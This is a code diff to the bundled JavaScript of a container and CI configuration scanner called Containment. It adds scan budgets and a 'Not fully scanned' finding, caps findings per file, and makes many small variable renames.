@@ -43164,7 +49826,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
             const _errs555 = errors;
             if (data190 && typeof data190 == "object" && !Array.isArray(data190)) {
               for (const key46 in data190) {
-                if (!(func22.call(schema15.properties.networks.oneOf[1].patternProperties["^[a-zA-Z0-9._-]+$"].oneOf[0].properties, key46) || pattern0.test(key46))) {
+                if (!(func2.call(schema15.properties.networks.oneOf[1].patternProperties["^[a-zA-Z0-9._-]+$"].oneOf[0].properties, key46) || pattern0.test(key46))) {
                   const err307 = { instancePath: instancePath + "/networks/" + key45.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/properties/networks/oneOf/1/patternProperties/%5E%5Ba-zA-Z0-9._-%5D%2B%24/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key46 }, message: "must NOT have additional properties" };
                   if (vErrors === null) {
                     vErrors = [err307];
@@ -44556,7 +51218,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
               errors++;
             }
             for (const key54 in data258) {
-              if (!(func22.call(schema15.properties.volumes.items.oneOf[1].properties, key54) || pattern0.test(key54))) {
+              if (!(func2.call(schema15.properties.volumes.items.oneOf[1].properties, key54) || pattern0.test(key54))) {
                 const err404 = { instancePath: instancePath + "/volumes/" + i76, schemaPath: "#/properties/volumes/items/oneOf/1/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key54 }, message: "must NOT have additional properties" };
                 if (vErrors === null) {
                   vErrors = [err404];
@@ -45182,7 +51844,7 @@ function validate352(data, { instancePath = "", parentData, parentDataProperty, 
   }
   if (data && typeof data == "object" && !Array.isArray(data)) {
     for (const key0 in data) {
-      if (!(func22.call(schema65.properties, key0) || pattern0.test(key0))) {
+      if (!(func2.call(schema65.properties, key0) || pattern0.test(key0))) {
         const err1 = { instancePath, schemaPath: "#/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key0 }, message: "must NOT have additional properties" };
         if (vErrors === null) {
           vErrors = [err1];
@@ -46356,7 +53018,7 @@ function validate10(data, { instancePath = "", parentData, parentDataProperty, r
   let errors = 0;
   if (data && typeof data == "object" && !Array.isArray(data)) {
     for (const key0 in data) {
-      if (!(func22.call(schema11.properties, key0) || pattern0.test(key0))) {
+      if (!(func2.call(schema11.properties, key0) || pattern0.test(key0))) {
         const err0 = { instancePath, schemaPath: "#/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key0 }, message: "must NOT have additional properties" };
         if (vErrors === null) {
           vErrors = [err0];
@@ -46686,7 +53348,7 @@ function composeValidator() {
   validator ??= precompiledComposeValidator() ?? new import_ajv.Ajv(COMPOSE_AJV_OPTIONS).compile(composeSpecSchema());
   return validator;
 }
-var COMPOSE_AJV_OPTIONS = { strict: false, allErrors: true, validateFormats: false };
+var COMPOSE_AJV_OPTIONS = { strict: false, allErrors: true, validateFormats: false, code: { regExp: linearRegExp } };
 function composeSpecSchema() {
   const { $schema: _ignored, ...schema } = compose_spec_schema_default;
   return schema;
@@ -46820,7 +53482,7 @@ function parseCompose(path, text3, env) {
   const yaml = readYaml(text3);
   const subjects = [];
   const lineLengths = text3.split("\n").map((line) => line.replace(/\r$/, "").length);
-  const clamp = (range2) => ({ start: clampPosition(range2.start, lineLengths), end: clampPosition(range2.end, lineLengths) });
+  const clamp = (range) => ({ start: clampPosition(range.start, lineLengths), end: clampPosition(range.end, lineLengths) });
   const problems = [...yaml.problems, ...laterDocumentProblems(yaml)].map((problem2) => ({ ...problem2, range: clamp(problem2.range) }));
   const locate = (pointer, lineOffset) => clamp(yaml.locate(pointer, lineOffset));
   const services = /* @__PURE__ */ new Map();
@@ -47533,9 +54195,9 @@ var LspOffsets = class {
     const next = this.starts[line + 1] ?? this.text.length;
     return Math.min(start + Math.max(position2.character, 0), next);
   }
-  span(range2) {
-    const start = this.offset(range2.start);
-    return { start, end: Math.max(start, this.offset(range2.end)) };
+  span(range) {
+    const start = this.offset(range.start);
+    return { start, end: Math.max(start, this.offset(range.end)) };
   }
 };
 var MEMOIZED = /* @__PURE__ */ Symbol.for("containment.dockerfile-ast.rawArguments");
@@ -47721,12 +54383,12 @@ function parseDockerfile(path, text3) {
   }
   return document;
 }
-function unreadable(error, range2) {
+function unreadable(error, range) {
   const reason = error instanceof Error ? error.message : String(error);
   return {
     ruleId: "parse-error",
     message: `Containment could not read this Dockerfile (${reason}), so nothing in it was checked. Please report this as a bug.`,
-    range: range2
+    range
   };
 }
 function firstFrom(model) {
@@ -47796,8 +54458,8 @@ function commandSubjects(document, model, stage2) {
     const pointer = joinPointer("/instructions", run2.index);
     const seen = /* @__PURE__ */ new Map();
     for (const command of runCommands(model, run2)) {
-      const count = (seen.get(command.name) ?? 0) + 1;
-      seen.set(command.name, count);
+      const count2 = (seen.get(command.name) ?? 0) + 1;
+      seen.set(command.name, count2);
       const value = {
         name: command.name,
         args: command.args,
@@ -47808,7 +54470,7 @@ function commandSubjects(document, model, stage2) {
       };
       subjects.push({
         type: "command",
-        name: `${stage2.label}/RUN ${n + 1}/${command.name}${count > 1 ? ` (${count})` : ""}`,
+        name: `${stage2.label}/RUN ${n + 1}/${command.name}${count2 > 1 ? ` (${count2})` : ""}`,
         document,
         pointer,
         value,
@@ -47838,10 +54500,10 @@ function workflowEmitter(document) {
 
 // src/subjects/workflow-matrix.ts
 var MAX_MATRIX_COMBINATIONS = 64;
-var isMap2 = (value) => value !== null && typeof value === "object" && !Array.isArray(value);
+var isMap3 = (value) => value !== null && typeof value === "object" && !Array.isArray(value);
 function matrixCombinations(strategy, limit = MAX_MATRIX_COMBINATIONS) {
-  const matrix = isMap2(strategy) ? strategy["matrix"] : void 0;
-  if (!isMap2(matrix)) return void 0;
+  const matrix = isMap3(strategy) ? strategy["matrix"] : void 0;
+  if (!isMap3(matrix)) return void 0;
   const { include = [], exclude = [], ...axes } = matrix;
   if (!Array.isArray(include) || !Array.isArray(exclude)) return void 0;
   const keys = Object.keys(axes);
@@ -47854,11 +54516,11 @@ function matrixCombinations(strategy, limit = MAX_MATRIX_COMBINATIONS) {
   }
   let combinations = keys.length ? [{}] : [];
   for (const key of keys) combinations = combinations.flatMap((base) => axes[key].map((value) => ({ ...base, [key]: value })));
-  combinations = combinations.filter((combination) => !exclude.some((entry) => isMap2(entry) && matches2(combination, entry)));
+  combinations = combinations.filter((combination) => !exclude.some((entry) => isMap3(entry) && matches2(combination, entry)));
   const originals = combinations.map((combination) => ({ combination, original: { ...combination } }));
   const added = [];
   for (const entry of include) {
-    if (!isMap2(entry)) return void 0;
+    if (!isMap3(entry)) return void 0;
     let fitted = false;
     for (const { combination, original } of originals) {
       const overwrites = Object.entries(entry).some(([key, value]) => Object.hasOwn(original, key) && !same(original[key], value));
@@ -47886,13 +54548,13 @@ function substituteMatrix(value, combination) {
         const [key, ...rest] = path.slice(1).split(".");
         if (!used.includes(key)) used.push(key);
         let found = combination[key];
-        for (const part of rest) found = isMap2(found) ? found[part] : void 0;
+        for (const part of rest) found = isMap3(found) ? found[part] : void 0;
         if (found === void 0 || found === null) return "";
         return typeof found === "object" ? expression : String(found);
       });
     }
     if (Array.isArray(node)) return node.map(visit2);
-    if (isMap2(node)) return Object.fromEntries(Object.entries(node).map(([key, entry]) => [key, visit2(entry)]));
+    if (isMap3(node)) return Object.fromEntries(Object.entries(node).map(([key, entry]) => [key, visit2(entry)]));
     return node;
   };
   return { value: visit2(value), used };
@@ -47900,7 +54562,7 @@ function substituteMatrix(value, combination) {
 function usesMatrix(value) {
   if (typeof value === "string") return /\$\{\{[^}]*\bmatrix\./.test(value);
   if (Array.isArray(value)) return value.some(usesMatrix);
-  return isMap2(value) && Object.values(value).some(usesMatrix);
+  return isMap3(value) && Object.values(value).some(usesMatrix);
 }
 
 // src/subjects/docker-mount.ts
@@ -48689,9 +55351,9 @@ function emitRunScript(out, stepName, pointer, script, context) {
   const facts = { builds: [], composeFiles: [], checksOutPrHead: false };
   const seen = /* @__PURE__ */ new Map();
   const uniqueName = (base) => {
-    const count = (seen.get(base) ?? 0) + 1;
-    seen.set(base, count);
-    return count > 1 ? `${base} (${count})` : base;
+    const count2 = (seen.get(base) ?? 0) + 1;
+    seen.set(base, count2);
+    return count2 > 1 ? `${base} (${count2})` : base;
   };
   let cwd = context.cwd;
   for (const command of splitShellCommands(script)) {
@@ -48959,17 +55621,20 @@ function parseDocument(kind, path, text3, env) {
         return parseWorkflow(path, source, kind);
     }
   } catch (error) {
-    const range2 = { start: { line: 1, column: 1 }, end: { line: 1, column: 2 } };
+    const range = { start: { line: 1, column: 1 }, end: { line: 1, column: 2 } };
     return {
       kind,
       path,
       text: source,
       subjects: [],
-      problems: [{ ruleId: "parse-error", message: `Containment could not read this file (${error.message}), so nothing in it was checked. Please report this as a bug.`, range: range2 }],
-      locate: () => range2
+      problems: [{ ruleId: "parse-error", message: `Containment could not read this file (${error.message}), so nothing in it was checked. Please report this as a bug.`, range }],
+      locate: () => range
     };
   }
 }
+
+// src/engine/evaluate.ts
+import { createHash as createHash2 } from "node:crypto";
 
 // src/engine/fingerprint.ts
 import { createHash } from "node:crypto";
@@ -48991,9 +55656,9 @@ function locateFinding(subject, instancePath) {
   }
   const document = best.document ?? subject.document;
   const pointer = best.line === void 0 ? best.pointer + instancePath.slice(best.path.length) : best.pointer;
-  const range2 = document.locate(pointer, best.line);
+  const range = document.locate(pointer, best.line);
   const related = document === subject.document ? evidence : [{ path: subject.document.path, range: subject.document.locate(subject.pointer), message: `${subject.name} is defined here`, role: "subject" }, ...evidence.filter((e) => e.path !== document.path)];
-  return { document, pointer, range: range2, related };
+  return { document, pointer, range, related };
 }
 var anchorIndexes = /* @__PURE__ */ new WeakMap();
 function bestAnchor(subject, instancePath) {
@@ -49035,6 +55700,7 @@ function show2(value) {
 }
 
 // src/engine/problem-rules.ts
+var SCAN_INCOMPLETE = "scan-incomplete";
 var PROBLEM_RULES = [
   {
     id: "parse-error",
@@ -49121,6 +55787,15 @@ var PROBLEM_RULES = [
     references: [{ framework: "url", url: "https://docs.docker.com/reference/compose-file/version-and-name/" }]
   },
   {
+    id: SCAN_INCOMPLETE,
+    pack: "core",
+    title: "Not fully scanned",
+    severity: "high",
+    rationale: "Every scan has a budget (files, bytes and, as a last resort, time), and one file is judged until it has as many critical findings as are reported for one file. What lies beyond a budget was not judged, and something never judged must not pass as safe: a pull request could otherwise hide a privileged service behind thousands of generated files.",
+    remediation: "Fix the reported findings, or scan fewer files at once: point `path` at the folders that hold your Compose files, Dockerfiles and workflows, or exclude generated folders in `.github/containment.yml`.",
+    references: [{ framework: "url", url: "https://github.com/containment-dev/containment#limits" }]
+  },
+  {
     id: "compose-extends",
     pack: "core",
     title: "Compose `extends` cannot be resolved",
@@ -49147,7 +55822,15 @@ var PROBLEM_RULES = [
 function compileRules(rules, params = {}) {
   return rules.map((rule) => {
     const values = { ...rule.params, ...params[rule.id] };
-    const compile = (schema) => compileOnce(substituteParams(schema, values));
+    const compile = (schema) => {
+      const substituted = substituteParams(schema, values);
+      const refused = params[rule.id] ? unsupportedPattern(substituted) : void 0;
+      if (refused) {
+        const name = Object.keys(params[rule.id]).find((key) => refused.message.includes(JSON.stringify(params[rule.id][key])));
+        throw new ConfigError(`rules.${rule.id}.params${name ? `.${name}` : ""}: ${refused.message}`);
+      }
+      return compileOnce(substituted);
+    };
     return { rule, validate: compile(rule.schema), ...rule.when ? { when: compile(rule.when) } : {} };
   });
 }
@@ -49162,11 +55845,27 @@ function evaluate(documents, rules) {
   const findings = [];
   for (const document of documents) {
     for (const problem2 of document.problems) findings.push(problemFinding(document, problem2.ruleId, problem2.message, problem2.range));
-    for (const subject of document.subjects) {
-      for (const compiled2 of byType.get(subject.type) ?? []) judge(subject, compiled2, findings);
-    }
+    judgeDocument(document, byType, findings);
   }
   return findings.sort(byPlace);
+}
+var MAX_FINDINGS_PER_FILE = 200;
+function judgeDocument(document, byType, findings) {
+  let top = 0;
+  for (const subject of document.subjects) {
+    for (const compiled2 of byType.get(subject.type) ?? []) {
+      const before = findings.length;
+      judge(subject, compiled2, findings);
+      if (compiled2.rule.severity === SEVERITIES[0]) top += findings.length - before;
+      if (top >= MAX_FINDINGS_PER_FILE) {
+        const message = `Containment stopped judging ${document.path} here, after ${MAX_FINDINGS_PER_FILE} ${SEVERITIES[0]} findings (the most it lists for one file), so the rest of this file was not checked. Fix the listed findings and scan again.`;
+        const stopped = problemFinding(document, SCAN_INCOMPLETE, message, locateFinding(subject, "").range);
+        stopped.fingerprint = fingerprint(SCAN_INCOMPLETE, document.path, `stopped:${createHash2("sha256").update(document.text).digest("hex")}`);
+        findings.push(stopped);
+        return;
+      }
+    }
+  }
 }
 function judge(subject, { rule, validate, when }, findings) {
   if (when && !when(subject.value)) return;
@@ -49208,7 +55907,7 @@ function pathOf(error) {
   const name = error.propertyName ?? (error.keyword === "propertyNames" ? error.params.propertyName : void 0);
   return name === void 0 ? error.instancePath : joinPointer(error.instancePath, name);
 }
-function problemFinding(document, ruleId, message, range2) {
+function problemFinding(document, ruleId, message, range) {
   const rule = PROBLEM_RULE_BY_ID.get(ruleId);
   return {
     ruleId,
@@ -49217,7 +55916,7 @@ function problemFinding(document, ruleId, message, range2) {
     message,
     path: document.path,
     pointer: "",
-    range: range2,
+    range,
     // Problems have no logical place; their message stands in, with numbers (lines) blanked.
     fingerprint: fingerprint(ruleId, document.path, message.replace(/\d+/g, "#")),
     related: []
@@ -49673,11 +56372,11 @@ function testPack(dir, shown = dir) {
   const { packs: packs3, errors } = loadPackDir(dir, shown);
   const rules = packs3.flatMap((pack2) => pack2.rules);
   const outcomes = rules.flatMap((rule) => rule.tests.map((test, index) => runRuleTest(rule, test, index)));
-  const incomplete = rules.flatMap((rule) => {
+  const incomplete2 = rules.flatMap((rule) => {
     const lacks = missingExamples(rule);
     return lacks ? [{ rule: rule.id, source: rule.source, lacks }] : [];
   });
-  return { errors, outcomes, incomplete };
+  return { errors, outcomes, incomplete: incomplete2 };
 }
 function missingExamples(rule) {
   const failing = rule.tests.some((test) => test.expect.length > 0);
@@ -49706,8 +56405,8 @@ function formatPackTestReport(report) {
     lines.push(`FAIL   ${rule.rule} (${rule.source}): ${KIND2[rule.lacks]}; every rule needs both, so that it is shown to fire and shown not to fire on everything.`);
   }
   const failed = report.outcomes.filter((o) => !o.passed).length;
-  const incomplete = report.incomplete.length ? `, ${report.incomplete.length} ${report.incomplete.length === 1 ? "rule lacks" : "rules lack"} a failing or passing example` : "";
-  lines.push("", `${report.outcomes.length - failed} passed, ${failed} failed${incomplete}${report.errors.length ? `, ${report.errors.length} load errors` : ""}`);
+  const incomplete2 = report.incomplete.length ? `, ${report.incomplete.length} ${report.incomplete.length === 1 ? "rule lacks" : "rules lack"} a failing or passing example` : "";
+  lines.push("", `${report.outcomes.length - failed} passed, ${failed} failed${incomplete2}${report.errors.length ? `, ${report.errors.length} load errors` : ""}`);
   return `${lines.join("\n")}
 `;
 }
@@ -49747,10 +56446,10 @@ function formatRulesTable(packs3) {
   const lines = table.map(
     (row) => row.map((cell3, column) => column === row.length - 1 ? cell3 : cell3.padEnd(widths[column] ?? 0)).join("  ").trimEnd()
   );
-  const count = rows2.length;
+  const count2 = rows2.length;
   return `${lines.join("\n")}
 
-${count} rule${count === 1 ? "" : "s"} in ${packs3.length} pack${packs3.length === 1 ? "" : "s"}
+${count2} rule${count2 === 1 ? "" : "s"} in ${packs3.length} pack${packs3.length === 1 ? "" : "s"}
 `;
 }
 
@@ -50242,8 +56941,8 @@ function gitSource(root, base, head) {
   return {
     describe: `git (${base.slice(0, 7)}..${head ? head.slice(0, 7) : "working tree"})`,
     async changes() {
-      const range2 = head ? [base, head] : [base];
-      const diffArgs = ["diff", "--no-color", "--no-ext-diff", "--no-textconv", "--relative", "-M", ...range2, "--"];
+      const range = head ? [base, head] : [base];
+      const diffArgs = ["diff", "--no-color", "--no-ext-diff", "--no-textconv", "--relative", "-M", ...range, "--"];
       const changes = parseUnifiedDiff(await git(root, [...diffArgs.slice(0, 5), "--unified=0", ...diffArgs.slice(5)], Number.POSITIVE_INFINITY));
       reconcile(changes, await git(root, [...diffArgs.slice(0, 5), "-z", "--name-status", ...diffArgs.slice(5)], Number.POSITIVE_INFINITY));
       if (!head) {
@@ -50619,28 +57318,13 @@ function stage(name, run2) {
   stages[name] = (stages[name] ?? 0) + performance.now() - start;
   return result;
 }
-var PARSE_BUDGET_MS = 1e3;
-function parseBudgetMs() {
-  const value = Number(process.env["CONTAINMENT_PARSE_BUDGET_MS"]);
-  return process.env["CONTAINMENT_PARSE_BUDGET_MS"] && Number.isFinite(value) && value >= 0 ? value : PARSE_BUDGET_MS;
-}
-function parseTimed(kind, parse2, notices) {
+function parseTimed(kind, parse2) {
+  if (!PROFILING) return parse2();
   const start = performance.now();
   const document = parse2();
-  const elapsed = performance.now() - start;
-  const budget = parseBudgetMs();
-  if (notices && elapsed > budget) {
-    notices.push({
-      level: "notice",
-      path: document.path,
-      message: `${document.path} took ${Math.round(elapsed)} ms to parse, over the ${budget} ms budget for one file; it was still checked in full. A file this slow to read is usually generated, or written to slow the scan down.`
-    });
-  }
-  if (PROFILING) {
-    const times = kindTimes(kind);
-    times.files++;
-    times.parseMs += elapsed;
-  }
+  const times = kindTimes(kind);
+  times.files++;
+  times.parseMs += performance.now() - start;
   return document;
 }
 function evaluateTimed(documents, rules) {
@@ -50654,10 +57338,69 @@ function evaluateTimed(documents, rules) {
   const findings = [];
   for (const [kind, group] of groups) {
     const start = performance.now();
-    findings.push(...evaluate(group, rules));
+    for (const finding of evaluate(group, rules)) findings.push(finding);
     kindTimes(kind).evaluateMs += performance.now() - start;
   }
   return findings.sort(byPlace);
+}
+
+// src/scan-budget.ts
+import { createHash as createHash3 } from "node:crypto";
+import { performance as performance2 } from "node:perf_hooks";
+var DEFAULT_SCAN_BUDGET = { files: 5e4, bytes: 64 * 1024 * 1024, milliseconds: 5 * 6e4 };
+function scanBudget(discovered, budget = {}, now = () => performance2.now()) {
+  const limits2 = { ...DEFAULT_SCAN_BUDGET, ...budget };
+  const started = now();
+  let bytes = 0;
+  let cut = discovered.findIndex((file, index) => {
+    bytes += file.size;
+    return index >= limits2.files || bytes > limits2.bytes;
+  });
+  if (cut < 0) cut = discovered.length;
+  const overBudget = discovered.slice(cut);
+  const total = discovered.reduce((sum, file) => sum + file.size, 0);
+  const late = [];
+  return {
+    files: discovered.slice(0, cut),
+    expired: () => now() - started > limits2.milliseconds,
+    skip: (file) => {
+      late.push(file);
+    },
+    findings: () => {
+      if (overBudget.length > 0) {
+        const reason = `this scan found ${count(discovered.length, "file")} (${mebibytes(total)}), over its budget of ${count(limits2.files, "file")} and ${mebibytes(limits2.bytes)}`;
+        return [incomplete(overBudget, reason)];
+      }
+      if (late.length > 0) {
+        const skipped = [...late].sort((a, b) => a.path < b.path ? -1 : a.path > b.path ? 1 : 0);
+        return [incomplete(skipped, `this scan ran past its time budget of ${Math.round(limits2.milliseconds / 1e3)} seconds`)];
+      }
+      return [];
+    }
+  };
+}
+var RULE = PROBLEM_RULES.find((rule) => rule.id === SCAN_INCOMPLETE);
+function incomplete(skipped, reason) {
+  const first = skipped[0];
+  const digest = createHash3("sha256").update(skipped.map((file) => file.path).join("\0")).digest("hex");
+  const more = skipped.length - 1;
+  return {
+    ruleId: SCAN_INCOMPLETE,
+    severity: RULE.severity,
+    title: RULE.title,
+    message: `Not fully scanned: ${reason}, so ${first.path}${more > 0 ? ` and ${count(more, "file")} after it in path order` : ""} ${more > 0 ? "were" : "was"} not checked and may hold anything. Point \`path\` at the folders that hold what should be judged, or exclude generated folders in the config.`,
+    path: first.path,
+    pointer: "",
+    range: { start: { line: 1, column: 1 }, end: { line: 1, column: 1 } },
+    fingerprint: fingerprint(SCAN_INCOMPLETE, first.path, `skipped:${digest}`),
+    related: []
+  };
+}
+function count(n, noun) {
+  return `${n.toLocaleString("en-US")} ${noun}${n === 1 ? "" : "s"}`;
+}
+function mebibytes(bytes) {
+  return `${(bytes / (1024 * 1024)).toFixed(1)} MiB`;
 }
 
 // src/documents/compose-env-read.ts
@@ -50677,10 +57420,14 @@ async function readComposeEnv(tree, composePath, notices) {
 // src/documents/read-project.ts
 var READ_CONCURRENCY = 16;
 var MAX_REFERENCED_FILES = 1e3;
-async function readProject(tree, notices) {
-  const { files, notices: found } = await tree.files();
+async function readProject(tree, notices, budget) {
+  const { files: discovered, notices: found } = await tree.files();
   notices.push(...found);
-  const read = await mapLimited(files, READ_CONCURRENCY, (file) => readOne(tree, file.path, file.kind, notices));
+  const allowance = scanBudget(discovered, budget);
+  const read = await mapLimited(allowance.files, READ_CONCURRENCY, async (file) => {
+    if (allowance.expired()) return void allowance.skip(file);
+    return readOne(tree, file.path, file.kind, notices);
+  });
   const documents = read.filter((document) => document !== void 0);
   const known = new Set(documents.map((document) => document.path));
   let followed = 0;
@@ -50711,10 +57458,10 @@ async function readProject(tree, notices) {
       followed++;
       known.add(target);
       const env = await readComposeEnv(tree, target, notices);
-      documents.push(parseTimed("compose", () => parseDocument("compose", target, got.text, env), notices));
+      documents.push(parseTimed("compose", () => parseDocument("compose", target, got.text, env)));
     }
   }
-  return documents.sort((a, b) => a.path < b.path ? -1 : a.path > b.path ? 1 : 0);
+  return { documents: documents.sort((a, b) => a.path < b.path ? -1 : a.path > b.path ? 1 : 0), incomplete: allowance.findings() };
 }
 async function readOne(tree, path, kind, notices) {
   const got = await tree.read(path);
@@ -50723,7 +57470,7 @@ async function readOne(tree, path, kind, notices) {
     return void 0;
   }
   const env = kind === "compose" ? await readComposeEnv(tree, path, notices) : void 0;
-  return parseTimed(kind, () => parseDocument(kind, path, got.text, env), notices);
+  return parseTimed(kind, () => parseDocument(kind, path, got.text, env));
 }
 function references(document) {
   const model = composeModel(document);
@@ -50818,8 +57565,8 @@ function container(subject) {
 function where(subject) {
   const anchor2 = subject.anchors?.find((candidate) => candidate.path === "");
   const document = anchor2?.document ?? subject.document;
-  const range2 = anchor2 ? document.locate(anchor2.pointer, anchor2.line) : subject.document.locate(subject.pointer);
-  return { path: document.path, range: range2 };
+  const range = anchor2 ? document.locate(anchor2.pointer, anchor2.line) : subject.document.locate(subject.pointer);
+  return { path: document.path, range };
 }
 function byLocation(a, b) {
   return compare(a.path, b.path) || a.range.start.line - b.range.start.line || a.range.start.column - b.range.start.column;
@@ -51007,8 +57754,8 @@ function describeCounts(counts, threshold = "info") {
 function countReaching(counts, failOn) {
   return SEVERITIES.filter((severity) => reaches(severity, failOn)).reduce((sum, severity) => sum + counts[severity], 0);
 }
-function plural(count, noun) {
-  return `${count} ${noun}${count === 1 ? "" : "s"}`;
+function plural(count2, noun) {
+  return `${count2} ${noun}${count2 === 1 ? "" : "s"}`;
 }
 function describeVerdict(counts, failOn, flag) {
   if (failOn === "none") return `not failing (${flag} none)`;
@@ -51018,7 +57765,6 @@ function describeVerdict(counts, failOn, flag) {
 }
 
 // src/select/findings-cap.ts
-var MAX_FINDINGS_PER_FILE = 200;
 function capFindingsPerFile(findings, notices, max = MAX_FINDINGS_PER_FILE) {
   const byPath = /* @__PURE__ */ new Map();
   for (const finding of findings) {
@@ -51029,7 +57775,7 @@ function capFindingsPerFile(findings, notices, max = MAX_FINDINGS_PER_FILE) {
   const dropped = /* @__PURE__ */ new Set();
   for (const [path, list3] of byPath) {
     if (list3.length <= max) continue;
-    const left = [...list3].sort((a, b) => severityRank(a.severity) - severityRank(b.severity)).slice(max);
+    const left = [...list3].sort((a, b) => Number(b.ruleId === SCAN_INCOMPLETE) - Number(a.ruleId === SCAN_INCOMPLETE) || severityRank(a.severity) - severityRank(b.severity)).slice(max);
     for (const finding of left) dropped.add(finding);
     const counts = Object.fromEntries(SEVERITIES.map((severity) => [severity, 0]));
     for (const finding of left) counts[finding.severity]++;
@@ -51264,8 +58010,8 @@ function invalidity(comment, knownRules) {
 }
 function describeSeverities(findings) {
   const parts = SEVERITIES.flatMap((severity) => {
-    const count = findings.filter((f) => f.severity === severity).length;
-    return count === 0 ? [] : [count === 1 ? `a ${severity} finding` : `${count} ${severity} findings`];
+    const count2 = findings.filter((f) => f.severity === severity).length;
+    return count2 === 0 ? [] : [count2 === 1 ? `a ${severity} finding` : `${count2} ${severity} findings`];
   });
   return parts.join(" and ");
 }
@@ -51313,9 +58059,9 @@ async function scan(options) {
   const compiled2 = stage("compile", () => compileRules(rules, params));
   const tree = options.tree ?? workingTree(root);
   const notices = [];
-  const documents = await stage("read+parse", () => readProject(tree, notices));
+  const { documents, incomplete: incomplete2 } = await stage("read+parse", () => readProject(tree, notices, options.budget));
   const linked = stage("link", () => link(documents));
-  const selected = stage("evaluate+select", () => selectFindings(evaluateTimed(linked, compiled2), config2));
+  const selected = stage("evaluate+select", () => selectFindings([...evaluateTimed(linked, compiled2), ...incomplete2], config2));
   const known = /* @__PURE__ */ new Set([...PROBLEM_RULES.map((r) => r.id), ...packs3.flatMap((p) => p.rules.map((r) => r.id))]);
   const excluded = excludedPaths(config2);
   const texts = new Map(documents.filter((d) => !excluded(d.path)).map((d) => [d.path, d.text]));
@@ -51369,12 +58115,12 @@ function compareWithBase(head, base) {
 // src/pr/base-tree.ts
 function baseTree(head, source, changes) {
   const touched = /* @__PURE__ */ new Set([...changes.lines.keys(), ...changes.deleted, ...changes.renamed.values()]);
-  const cache = /* @__PURE__ */ new Map();
+  const cache2 = /* @__PURE__ */ new Map();
   const atBase = (path) => {
-    let pending = cache.get(path);
+    let pending = cache2.get(path);
     if (!pending) {
       pending = source.fileAt(path);
-      cache.set(path, pending);
+      cache2.set(path, pending);
     }
     return pending;
   };
@@ -51688,7 +58434,6 @@ var package_default = {
     "dependency-cruiser": "18.7.2",
     esbuild: "0.28.2",
     "fast-check": "4.11.0",
-    recheck: "4.5.0",
     typescript: "5.9.3",
     vite: "8.3.8",
     vitest: "5.1.2"
@@ -51773,10 +58518,10 @@ function suppressionJson(suppression) {
     ...suppression.coversAddedLine ? { coversAddedLine: true } : {}
   };
 }
-function orderedRange(range2) {
+function orderedRange(range) {
   return {
-    start: { line: range2.start.line, column: range2.start.column },
-    end: { line: range2.end.line, column: range2.end.column }
+    start: { line: range.start.line, column: range.start.column },
+    end: { line: range.end.line, column: range.end.column }
   };
 }
 
@@ -51893,15 +58638,15 @@ function sarifResult(finding, ruleIndex) {
     properties: { severity: finding.severity }
   };
 }
-function physicalLocation(path, range2) {
+function physicalLocation(path, range) {
   return {
     artifactLocation: { uri: pathUri(path), uriBaseId: SRCROOT },
     region: {
-      startLine: range2.start.line,
-      startColumn: range2.start.column,
-      endLine: Math.max(range2.end.line, range2.start.line),
+      startLine: range.start.line,
+      startColumn: range.start.column,
+      endLine: Math.max(range.end.line, range.start.line),
       // SARIF's endColumn is exclusive, as is Range's end.
-      endColumn: range2.end.column
+      endColumn: range.end.column
     }
   };
 }
